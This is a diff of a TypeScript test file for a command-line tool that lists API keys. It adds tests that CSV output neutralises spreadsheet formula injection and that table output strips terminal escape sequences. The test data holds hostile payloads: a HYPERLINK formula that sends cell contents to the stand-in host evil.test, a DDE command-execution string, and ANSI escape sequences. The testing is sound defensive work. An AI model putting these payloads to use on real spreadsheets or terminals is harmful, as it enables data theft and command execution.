@@ -6,7 +6,9 @@ import {
   type MockServer,
   OTHER_WORKSPACE_ID,
 } from '@openrouter-kit/mock'
+import type { ApiKey } from '@openrouter-kit/types'
 import { parse } from 'csv-parse/sync'
+import stringWidth from 'string-width'
 import { afterEach, describe, expect, test } from 'vitest'
 import { COLUMN_IDS } from '../output/column-ids'
 import { displayWidth } from '../output/text-width'
@@ -30,6 +32,18 @@ async function start(options: Parameters<typeof createMockServer>[0] = {}) {
 
 const keysRequests = (mock: MockServer) => mock.requests.filter((r) => r.path.endsWith('/keys'))
 
+/**
+ * A mock whose first page is exactly `keys`, sent verbatim as JSON (so fields may hold anything
+ * a broken or hostile server could send), then an empty page.
+ */
+function serve(keys: readonly unknown[]) {
+  return start({ keys: [], faults: [{ body: JSON.stringify({ data: keys }) }] })
+}
+
+/** A key as the server sends it, with any field replaced by any value. */
+const sent = (hash: string, fields: Record<string, unknown>) =>
+  ({ ...makeKey({ hash: hash.repeat(64) }), ...fields }) as unknown as ApiKey
+
 describe('formats', () => {
   test('--format json is every key of every page, exactly as the API sent them', async () => {
     const { mock, ork } = await start({ seed: 23, pageSize: 10 })
@@ -38,13 +52,11 @@ describe('formats', () => {
     const keys = mock.listKeys()
     expect(JSON.parse(result.stdout)).toEqual(keys)
     expect(keys.length).toBeGreaterThan(10)
-    // Pages of 10, each re-reading the last key of the page before (the client's overlap), until
-    // the short page that ends the listing.
-    // Pages fetched ahead past the end (the client's concurrency) may show up too: left out here.
-    const offsets = [0]
-    while (keys.length - (offsets.at(-1) ?? 0) >= 10) offsets.push((offsets.at(-1) ?? 0) + 9)
-    const read = keysRequests(mock).map((r) => Number(r.query.offset))
-    expect(read.filter((offset) => offset < keys.length)).toEqual(offsets)
+    // From offset 0, page after page: at least one request per page of 10. (How the pages
+    // overlap and how many are fetched ahead is the client's listing strategy, tested there.)
+    const offsets = keysRequests(mock).map((r) => Number(r.query.offset))
+    expect(offsets[0]).toBe(0)
+    expect(offsets.length).toBeGreaterThanOrEqual(Math.ceil(keys.length / 10))
   })
 
   test('--json is the same as --format json', async () => {
@@ -233,5 +245,153 @@ describe('empty listing', () => {
     expect(json).toEqual({ code: 0, stdout: '[]\n', stderr: 'No keys found.\n' })
     expect(jsonl.stdout).toBe('')
     expect(csv.stdout).toBe('name,usage\r\n')
+  })
+})
+
+describe('csv: formula injection', () => {
+  const hostile = [
+    sent('a', { name: '=HYPERLINK("http://evil.test/?d="&A1,"open")', label: '+SUM(1)' }),
+    sent('b', { name: "-2+3+cmd|' /C calc'!A0", label: '@SUM(A1:A2)' }),
+    sent('c', { name: '\t=1+1', label: '\r=1+1', created_at: '=NOW()' }),
+    sent('d', { name: 'Plain', label: 'a;=1+1', usage: -3.5, limit_remaining: -0.25 }),
+  ]
+  const columns = 'name,label,created_at,usage,limit_remaining'
+
+  test('by default a text cell that starts like a formula gets a leading quote', async () => {
+    const { ork } = await serve(hostile)
+    const result = await ork(['--format', 'csv', '--columns', columns])
+    expect(result).toMatchObject({ code: 0, stderr: '' })
+    const rows: string[][] = parse(result.stdout, { relax_quotes: false })
+    expect(rows).toEqual([
+      ['name', 'label', 'created_at', 'usage', 'limit_remaining'],
+      [
+        `'=HYPERLINK("http://evil.test/?d="&A1,"open")`,
+        `'+SUM(1)`,
+        '2025-08-24T10:30:00Z',
+        '25.5',
+        '74.5',
+      ],
+      [`'-2+3+cmd|' /C calc'!A0`, `'@SUM(A1:A2)`, '2025-08-24T10:30:00Z', '25.5', '74.5'],
+      [`'\t=1+1`, `'\r=1+1`, `'=NOW()`, '25.5', '74.5'],
+      // Numbers are numbers from the API: -3.5 stays -3.5. A `;` is quoted, not prefixed.
+      ['Plain', 'a;=1+1', '2025-08-24T10:30:00Z', '-3.5', '-0.25'],
+    ])
+    expect(result.stdout.split('\r\n')[4]).toBe('Plain,"a;=1+1",2025-08-24T10:30:00Z,-3.5,-0.25')
+    // No cell of any row starts with a formula character.
+    for (const row of rows.slice(1)) {
+      for (const cell of row.slice(0, 3)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    }
+  })
+
+  test('--csv-raw writes text cells exactly as sent', async () => {
+    const { ork } = await serve(hostile)
+    const result = await ork(['--format', 'csv', '--csv-raw', '--columns', columns])
+    expect(result.code).toBe(0)
+    const rows: string[][] = parse(result.stdout)
+    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual(
+      hostile.map((key) => [key.name, key.label, key.created_at]),
+    )
+  })
+
+  test('--csv-raw with another format is a usage error, before any request', async () => {
+    const { mock, ork } = await start({ seed: 2 })
+    const result = await ork(['--csv-raw'])
+    expect(result).toEqual({
+      code: 2,
+      stdout: '',
+      stderr: 'error: --csv-raw applies to csv output only, not table\n',
+    })
+    expect(mock.requests).toHaveLength(0)
+  })
+})
+
+describe('table: escape sequences never reach the terminal', () => {
+  test('every cell is sanitised: names, labels, ids and unparseable timestamps', async () => {
+    const escapes = '\u001b]0;owned\u0007\u001b[2J\u009b31m'
+    const { ork } = await serve([
+      sent('a', {
+        name: `name${escapes}`,
+        label: `label${escapes}`,
+        limit_reset: `reset${escapes}`,
+        created_at: `soon${escapes}`,
+        expires_at: `later${escapes}`,
+        workspace_id: `ws${escapes}`,
+        creator_user_id: `user${escapes}`,
+      }),
+    ])
+    const result = await ork(['--columns', COLUMN_IDS.join(',')], { COLUMNS: '400' })
+    expect(result.code).toBe(0)
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters
+    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
+    expect(result.stdout.trimEnd().split('\n')).toHaveLength(2)
+    expect(result.stdout).toContain('soon\ufffd]0;owned\ufffd\ufffd[2J\ufffd31m')
+  })
+})
+
+describe('malformed data: one line, exit 1, no stack', () => {
+  test.each([
+    ['name', 5, 'table'],
+    ['name', { text: 'x' }, 'table'],
+    ['usage', '12.50', 'table'],
+    ['disabled', 'no', 'table'],
+    ['created_at', 1_700_000_000, 'table'],
+    ['name', ['x'], 'csv'],
+  ])('%s = %j (%s)', async (field, value, format) => {
+    const { ork } = await serve([sent('a', {}), sent('b', { [field]: value })])
+    const result = await ork(['--format', format, '--columns', `name,usage,disabled,created_at`])
+    expect(result.code).toBe(1)
+    expect(result.stdout).toBe('')
+    expect(result.stderr).toBe(
+      `error: unexpected response: the API sent a key (hash bbbbbbbbbbbb…) whose ${field} is ${JSON.stringify(value)}; expected a ${typeof sent('a', {})[field as keyof ApiKey]}\n`,
+    )
+  })
+
+  test('--debug adds the stack', async () => {
+    const { ork } = await serve([sent('a', { name: 5 })])
+    const result = await ork(['--debug'])
+    expect(result.code).toBe(1)
+    expect(result.stderr).toMatch(/^error: unexpected response: [^\n]*whose name is 5[^\n]*\n/m)
+    expect(result.stderr).toMatch(/\nMalformedDataError: [^\n]*\n\s+at /)
+  })
+
+  test('json and jsonl still pass the keys through exactly as sent', async () => {
+    const odd = [sent('a', { name: 5, usage: 'lots' })]
+    const { ork } = await serve(odd)
+    const result = await ork(['--json'])
+    expect(result.code).toBe(0)
+    expect(JSON.parse(result.stdout)).toEqual(odd)
+  })
+})
+
+describe('table widths: symbols, flags and keycaps (string-width)', () => {
+  const names = ['Acme© Pro™', 'Deploy ✔ done', '⚠ Legacy', 'Tokyo 🇯🇵', 'Step 1️⃣ first', 'Plain']
+  const symbolKeys = names.map((name, index) =>
+    makeKey({ hash: String(index).repeat(64), name, label: `sk-or-v1-${index}aa...0000` }),
+  )
+
+  const picked = ['--columns', 'name,label,usage,expires_at']
+  test.each([
+    ['60', []],
+    ['60', picked],
+    ['72', picked],
+    ['100', []],
+  ])('COLUMNS=%s %j: no row wider than COLUMNS, and the columns align', async (columns, args) => {
+    const { ork } = await start({ keys: symbolKeys })
+    const result = await ork(args, { COLUMNS: columns })
+    expect(result.code).toBe(0)
+    const lines = result.stdout.trimEnd().split('\n')
+    expect(lines).toHaveLength(names.length + 1)
+    for (const line of lines) expect(stringWidth(line)).toBeLessThanOrEqual(Number(columns))
+    // Where LABEL starts (left-aligned) and where USAGE ends (right-aligned), in cells: the
+    // same in the header and in every row.
+    const cellsBefore = (line: string, text: string, end = false) =>
+      stringWidth(line.slice(0, line.indexOf(text) + (end ? text.length : 0)))
+    const [header, ...rows] = lines
+    for (const [index, row] of rows.entries()) {
+      expect(cellsBefore(row!, symbolKeys[index]!.label)).toBe(cellsBefore(header!, 'LABEL'))
+      if (header!.includes('USAGE')) {
+        expect(cellsBefore(row!, '$25.50', true)).toBe(cellsBefore(header!, 'USAGE', true))
+      }
+    }
   })
 })
